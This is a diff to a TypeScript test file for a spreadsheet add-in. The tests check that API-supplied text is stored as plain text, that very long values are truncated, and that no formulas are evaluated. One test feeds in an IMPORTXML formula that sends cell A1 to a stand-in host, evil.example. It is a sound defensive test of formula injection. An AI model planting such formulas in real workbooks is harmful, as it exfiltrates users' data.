@@ -7,8 +7,8 @@ import { openAddin, websites, type OpenAddin } from "../addin/open-addin";
 const [company = ""] = websites(1);
 const LONG = "x".repeat(60_000);
 
-describe("A text of the API arrives as that text", () => {
-  it.each(SHAPE_SHIFTING_TEXTS)("%j from an enrichment, beside its company", async (text) => {
+describe("A text from the API is written as text", () => {
+  it.each(SHAPE_SHIFTING_TEXTS)("for %j from an enrichment, beside its company", async (text) => {
     const addin = await openAddin({ column: ["Website", company] });
     addin.spoil = replaced({ city: text });
 
@@ -18,7 +18,7 @@ describe("A text of the API arrives as that text", () => {
     expect(formulasIn(addin)).toEqual([]);
   });
 
-  it("one of 60,000 characters cut, visibly", async () => {
+  it("even if it has 60,000 characters and is visibly truncated", async () => {
     const addin = await openAddin({ column: ["Website", company] });
     addin.spoil = replaced({ city: LONG });
 
@@ -29,7 +29,7 @@ describe("A text of the API arrives as that text", () => {
     expect(city).toMatch(/x… \[cut]$/);
   });
 
-  it("from job posts and from news, on the sheets of their own", async () => {
+  it("from job posts and news, on their own sheets", async () => {
     for (const [kind, field, header] of [
       ["jobs", "title", "Title"],
       ["news", "title", "Headline"],
@@ -46,7 +46,7 @@ describe("A text of the API arrives as that text", () => {
       const shown = addin.rows(sheet).map((row) => row[header]);
       const count = shown.length;
       expect(count).toBeGreaterThan(10);
-      // Every post got the next text, and the sheet may order its rows as it likes.
+      // Each post got the next text, and the sheet may order its rows freely.
       const given = Array.from(
         { length: count },
         (_, post) => SHAPE_SHIFTING_TEXTS[post % SHAPE_SHIFTING_TEXTS.length] ?? "",
@@ -56,7 +56,7 @@ describe("A text of the API arrives as that text", () => {
     }
   });
 
-  it("from a formula, which is never evaluated", async () => {
+  it("from a formula, and never evaluated", async () => {
     const addin = await openAddin();
     addin.spoil = replaced({ title: '=IMPORTXML("https://evil.example/?"&A1,"//a")' });
 
@@ -109,12 +109,12 @@ describe("Replies in which every text is hostile", () => {
   });
 });
 
-/** Formulas that stand anywhere in the workbook. */
+/** Formulas anywhere in the workbook. */
 function formulasIn({ workbook }: OpenAddin): string[] {
   return workbook.sheets.flatMap((sheet) => sheet.getFormulas(sheet.dataRange).flat().filter(Boolean));
 }
 
-/** Replaces texts of a reply by field name, however deep they stand. */
+/** Replaces texts of a reply by field name, at any depth. */
 function replaced(fields: Record<string, string | (() => string)>): (reply: DemoReply) => DemoReply {
   return (reply) => {
     const body: unknown = JSON.parse(reply.body, (key, value: unknown) => {
